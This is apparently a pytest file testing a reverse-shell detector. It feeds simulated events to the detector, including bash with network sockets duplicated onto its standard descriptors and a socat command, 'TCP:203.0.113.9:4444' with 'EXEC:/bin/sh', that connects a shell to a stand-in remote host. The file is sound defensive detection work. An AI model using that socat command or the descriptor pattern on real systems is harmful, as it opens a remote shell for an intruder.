"""A shell on a socket, by its variants."""

from __future__ import annotations

import pytest

from periderm.engines.runtime import run_example
from periderm.engines.runtime.detectors.reverse_shell import DETECTOR
from periderm.engines.runtime.scene import connects, row, runs, scene
from periderm.model.event import Event, EventFlag, EventKind


def dup(process: int, descriptor: int, family: int = 2) -> Event:
    """A socket is put on a standard descriptor."""
    return row(EventKind.DUP, process, "203.0.113.9", arg0=descriptor, port=4444, family=family)


@pytest.mark.parametrize("order", [(0, 1, 2), (2, 1, 0), (1, 0)])
def test_the_order_of_the_descriptors_does_not_matter(order: tuple[int, ...]) -> None:
    """Input and one output are enough."""
    shell = runs(2, 1, "/usr/bin/bash", "bash")
    said = run_example(DETECTOR, scene(shell, *(dup(2, n) for n in order)))
    assert {alert.object for alert in said} == {"203.0.113.9:4444"}


@pytest.mark.parametrize("descriptors", [(0,), (1,), (1, 2)])
def test_one_way_is_no_shell(descriptors: tuple[int, ...]) -> None:
    """Reading from or writing to a network address is what scripts do."""
    shell = runs(2, 1, "/usr/bin/bash", "bash")
    assert run_example(DETECTOR, scene(shell, *(dup(2, n) for n in descriptors))) == []


def test_a_unix_socket_is_not_the_network() -> None:
    """Service managers hand Unix sockets to shells."""
    assert run_example(DETECTOR, scene(runs(2, 1, "/usr/bin/bash", "bash"), *(dup(2, n, 1) for n in range(3)))) == []


def test_a_program_that_starts_without_the_socket_is_free_again() -> None:
    """An exec with other standard descriptors ends what was noted before."""
    events = scene(
        runs(2, 1, "/usr/bin/python3", "python3"),
        *(dup(2, n) for n in range(3)),
        runs(2, 1, "/usr/bin/dash", "sh", "-c", "ls"),
    )
    assert run_example(DETECTOR, events) == []


def test_socat_feeds_its_child() -> None:
    """The relay holds the connection, its child is a shell on a socket pair."""
    said = run_example(
        DETECTOR,
        scene(
            runs(2, 1, "/usr/bin/socat", "socat", "TCP:203.0.113.9:4444", "EXEC:/bin/sh"),
            connects(2, "203.0.113.9", 4444),
            runs(3, 2, "/usr/bin/dash", "/bin/sh", flags=EventFlag.STDIO_SOCKET),
        ),
    )
    assert [alert.evidence["socket_held_by"] for alert in said] == ["/usr/bin/socat"]
